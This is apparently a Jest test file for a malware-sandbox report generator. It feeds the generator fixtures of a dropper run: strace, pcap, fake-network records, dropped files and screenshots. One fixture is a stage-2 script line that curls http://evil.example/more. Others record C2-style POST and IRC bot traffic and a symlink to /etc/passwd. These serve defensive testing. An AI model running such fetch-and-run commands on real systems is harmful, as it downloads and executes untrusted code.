import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import { createHash } from 'node:crypto';
import { copyFile, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { writePlainZip } from '#archives/plain-zip.js';
import type { FakenetRecord, TaskFile, UploadEntry } from '#domain/artifacts.js';
import type { Evidence } from '#domain/report.js';
import { examineFolder } from './run.js';

const FIXTURES = 'test/fixtures/strace';

const taskFile: TaskFile = {
  task: {
    id: 7,
    status: 'completed',
    category: 'file',
    target: 'dropper.sh',
    package: 'sh',
    timeout: 0,
    priority: 1,
    custom: null,
    owner: null,
    machine: null,
    platform: 'linux',
    arch: null,
    tags: [],
    options: 'free=yes',
    memory: false,
    enforceTimeout: false,
    clock: null,
    addedOn: '2026-11-22T21:52:40.000Z',
    startedOn: '2026-11-22T21:52:45.500Z',
    completedOn: '2026-11-22T21:53:00.000Z',
    route: 'inetsim',
    sample: null,
  },
  guest: {
    name: 'qemu1',
    label: 'qemu1',
    manager: 'qemu',
    platform: 'linux',
    startedOn: '2026-11-22T21:52:46.000Z',
    shutdownOn: '2026-11-22T21:52:59.000Z',
  },
  phases: { restore: 62, run: 1400 },
  outcome: { status: 'completed' },
};

let dir: string;

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'examine-'));
  for (const name of ['logs', 'files', 'shots']) await mkdir(join(dir, name));
  await writeFile(join(dir, 'task.json'), JSON.stringify(taskFile));
});

afterEach(() => rm(dir, { recursive: true }));

const sha256 = (bytes: Buffer): string => createHash('sha256').update(bytes).digest('hex');

async function examine(failures: string[] = [], off: readonly string[] = []): Promise<Evidence> {
  const options = { off, onFailure: (section: string) => failures.push(section) };
  return examineFolder({ dir }, options, AbortSignal.timeout(20_000));
}

const lines = (records: readonly (FakenetRecord | UploadEntry)[]): string =>
  records.map((record) => `${JSON.stringify(record)}\n`).join('');

/** The dropper's analysis, as the worker leaves it. */
async function dropperFolder(): Promise<void> {
  await symlink(join(process.cwd(), FIXTURES, 'dropper.sh'), join(dir, 'binary'));
  await copyFile(join(FIXTURES, 'dropper.log'), join(dir, 'logs/strace.log'));
  await copyFile(join(FIXTURES, 'dropper.pcap'), join(dir, 'dump.pcap'));
  await writeFile(join(dir, 'files/aaaa_stage2.sh'), '#!/bin/sh\ncurl http://evil.example/more\n');
  await writeFile(join(dir, 'files/unlisted'), 'x');
  await writeFile(join(dir, 'shots/0001.png'), '');
  await writeFile(join(dir, 'shots/0010.jpg'), '');
  await writeFile(join(dir, 'shots/0002.jpg'), '');
  await writeFile(join(dir, 'shots/0002_small.jpg'), '');
  await writeFile(join(dir, 'analysis.log'), 'started\r\nended\n');
  await writeFile(
    join(dir, 'cuckoo.log'),
    '{"level":"info","msg":"a"}\n{"level":"error","msg":"no capture"}\n',
  );
  const upload = { filepath: '/tmp/stage2.sh', pids: [1], size: 38, sha256: '', status: 'complete' } as const;
  await writeFile(
    join(dir, 'files.json'),
    lines([
      { path: 'files/aaaa_stage2.sh', ...upload },
      { path: 'files/../task.json', ...upload },
      { path: 'files/gone', ...upload },
    ]),
  );
  const guest = { ip: '203.0.113.5', port: 50_000 };
  const site = { ip: '203.0.113.9', port: 443 };
  await writeFile(
    join(dir, 'fakenet.jsonl'),
    lines([
      { kind: 'dns', time: 1795384371, name: 'tls.example', type: 'A', answer: '203.0.113.9' },
      { kind: 'tls', time: 1795384372, src: guest, dst: site, sni: 'tls.example' },
      {
        kind: 'http', time: 1795384373, tls: true, src: guest, dst: site, method: 'POST', host: 'tls.example', uri: '/in?x=1',
        version: '1.1', headers: [['Host', 'tls.example'], ['User-Agent', 'U/2']], body: Buffer.from('key=1').toString('base64'), status: 200,
      },
      {
        kind: 'tcp', time: 1795384374, src: { ip: '203.0.113.5', port: 50_001 }, dst: { ip: '203.0.113.9', port: 6667 },
        service: 'irc', host: 'tls.example', data: Buffer.from('NICK bot\r\nJOIN #x\r\n').toString('base64'), bytes: 19,
      },
      { kind: 'omitted', time: 1795384375, count: 7 },
    ]) + '{"kind":"dns","ti',
  ); // prettier-ignore
}

describe('a whole analysis', () => {
  test('the same folder gives the same bytes', async () => {
    await dropperFolder();
    expect(JSON.stringify(await examine())).toBe(JSON.stringify(await examine()));
  });

  test('info and target', async () => {
    await dropperFolder();
    const report = await examine();
    expect(report.info).toMatchObject({
      id: 7,
      added: 1795384360,
      started: 1795384365.5,
      duration: 14,
      options: 'free=yes',
      machine: { name: 'qemu1', started_on: '2026-11-22 21:52:46' },
    });
    expect(report.target).toMatchObject({
      category: 'file',
      file: {
        name: 'dropper.sh',
        path: 'binary',
        type: 'POSIX shell script, ASCII text executable',
        urls: ['http://evil.example/stage2.sh'],
      },
    });
    expect(report.malkoha).toEqual({
      outcome: { status: 'completed' },
      phases: { restore: 62, run: 1400 },
      notes: [
        '1 lines of the fake internet’s record could not be read.',
        '7 more requests were answered by the fake internet and not recorded.',
        '1 uploaded files are listed but not stored.',
      ],
    });
  });

  test('behaviour: tree, summary with names and URLs, counts', async () => {
    await dropperFolder();
    const { behavior } = await examine();
    expect(behavior?.processtree[0]?.children.map((node) => node.process_name)).toContain('curl');
    expect(behavior?.summary).toMatchObject({
      resolves_host: ['evil.example', 'tls.example'],
      fetches_url: ['http://evil.example/stage2.sh', 'https://tls.example/in?x=1'],
      keys: [],
      mutexes: [],
    });
    const curl = behavior?.generic.find((process) => process.process_name === 'curl');
    expect(curl?.summary).toMatchObject({
      fetches_url: ['http://evil.example/stage2.sh'],
      connects_host: ['evil.example'],
      resolves_host: ['evil.example'],
    });
    expect(behavior?.apistats[String(curl?.pid)]).toMatchObject({ execve: 1, sendmmsg: 1 });
  });

  test('network: one list of requests, captured or decrypted, with their processes', async () => {
    await dropperFolder();
    const { network } = await examine();
    expect(network?.http.map(({ uri, method, process_name, status, ...rest }) => [uri, method, process_name, status, rest['user-agent']])).toEqual([
      ['http://evil.example/stage2.sh', 'GET', 'curl', 200, 'Dropper/1.0'],
      ['https://tls.example/in?x=1', 'POST', undefined, 200, 'U/2'],
    ]); // prettier-ignore
    expect(network?.http[1]).toMatchObject({
      body: 'key=1',
      protocol: 'https',
      dst: '203.0.113.9',
      port: 443,
    });
    expect(network?.dns.map(({ request, type, answers, process_name }) => [request, type, answers.length, process_name])).toEqual([
      ['evil.example', 'A', 1, 'curl'],
      ['evil.example', 'AAAA', 0, 'curl'],
      ['tls.example', 'A', 1, undefined],
    ]); // prettier-ignore
    expect(network?.domains).toEqual([
      { domain: 'evil.example', ip: '203.0.113.5' },
      { domain: 'tls.example', ip: '203.0.113.9' },
    ]);
    expect(network?.dns_servers).toEqual(['203.0.113.53']);
    expect(network?.hosts).toEqual(['203.0.113.5', '203.0.113.9']);
    expect(network?.tls).toMatchObject([{ sni: 'tls.example', dst: '203.0.113.9', dport: 443 }]);
    expect(network?.tcp).toMatchObject([
      {
        dport: 80,
        bytes_out: 85,
        bytes_in: 205,
        service: 'http',
        host: 'evil.example',
        process_name: 'curl',
      },
      { dport: 6667, service: 'irc', host: 'tls.example' },
    ]);
    expect(network?.udp).toMatchObject([{ dport: 53, service: 'dns', process_name: 'curl' }]);
    expect(network?.irc).toEqual([
      { command: 'NICK', params: 'bot', type: 'client' },
      { command: 'JOIN', params: '#x', type: 'client' },
    ]);
    expect(network?.pcap_sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  test('dropped files, screenshots, logs', async () => {
    await dropperFolder();
    const report = await examine();
    expect(report.dropped).toMatchObject([
      {
        name: 'aaaa_stage2.sh',
        path: 'files/aaaa_stage2.sh',
        filepath: '/tmp/stage2.sh',
        deleted: true,
        complete: true,
        urls: ['http://evil.example/more'],
      },
      { path: 'files/unlisted', filepath: null, deleted: false, complete: false },
    ]);
    expect(report.screenshots?.map(({ path }) => path)).toEqual([
      'shots/0001.png',
      'shots/0002.jpg',
      'shots/0010.jpg',
    ]);
    expect(report.debug).toMatchObject({ log: ['started', 'ended'], errors: ['no capture'] });
    expect(report.strings).toContain(
      '# A harmless dropper: fetches a script, runs it, hides a file, removes itself.',
    );
  });
});

test('of an archive the file that was run is the target, and what its strings are of', async () => {
  const content = 'MZ some text of the member\n';
  const zip = join(dir, 'in.zip');
  await writeFile(join(dir, 'member'), content);
  await writePlainZip(zip, [{ path: 'in/a.exe', file: join(dir, 'member') }]);
  await copyFile(zip, join(dir, 'binary'));
  const task = {
    ...taskFile.task,
    category: 'archive' as const,
    target: 'mail.zip',
    options: 'filename=in/a.exe',
  };
  await writeFile(join(dir, 'task.json'), JSON.stringify({ ...taskFile, task }));
  const report = await examine();
  expect(report.target).toMatchObject({
    category: 'archive',
    filename: 'in/a.exe',
    human: 'in/a.exe @ mail.zip',
    archive: { name: 'mail.zip', sha256: sha256(await readFile(zip)) },
    file: { name: 'a.exe', size: content.length, sha256: sha256(Buffer.from(content)) },
  });
  expect(report.strings).toEqual(['MZ some text of the member']);
  await writeFile(join(dir, 'binary'), 'no zip');
  expect((await examine()).malkoha.notes).toContainEqual(
    expect.stringContaining('cannot be read from its archive'),
  );
});

describe('less than a whole analysis', () => {
  test('an empty folder is a report without sections', async () => {
    const report = await examine();
    expect(Object.keys(report)).toEqual(['info', 'target', 'debug', 'malkoha']);
    expect(report.malkoha.notes).toEqual([
      'The sample is no longer stored: its hashes are those of the submission.',
    ]);
  });

  test('sections that are not wanted are left out, and the report says so', async () => {
    await dropperFolder();
    const report = await examine([], ['strings', 'behavior']);
    expect(report).not.toHaveProperty('behavior');
    expect(report).not.toHaveProperty('strings');
    expect(report.network).toBeDefined();
    expect(report.malkoha.notes).toContain('Left out, as processing.conf has it: behavior, strings.');
  });

  test('a section that breaks costs itself only', async () => {
    await dropperFolder();
    await rm(join(dir, 'dump.pcap'));
    await mkdir(join(dir, 'dump.pcap'));
    const failures: string[] = [];
    const report = await examine(failures);
    expect(failures).toEqual(['network']);
    expect(report.network).toBeUndefined();
    expect(report.behavior?.processes.length).toBeGreaterThan(5);
    expect(report.malkoha.notes).toContain('The section “network” could not be made.');
  });

  test('a capture of anything else is named, not trusted', async () => {
    await writeFile(join(dir, 'dump.pcap'), 'no capture at all');
    expect((await examine()).malkoha.notes).toContain(
      'The capture was read only in part: not a capture file (offset 0).',
    );
  });

  test('files that are links are not followed', async () => {
    await symlink('/etc/passwd', join(dir, 'files/link'));
    await writeFile(join(dir, 'files.json'), lines([
      { path: 'files/link', filepath: null, pids: [], size: 0, sha256: '', status: 'complete' },
    ])); // prettier-ignore
    expect((await examine()).dropped).toBeUndefined();
  });

  test('a cancelled examination ends with the reason of the signal', async () => {
    await dropperFolder();
    const reason = new Error('cancelled');
    const options = { onFailure: (): void => undefined };
    await expect(examineFolder({ dir }, options, AbortSignal.abort(reason))).rejects.toThrow();
  });
});
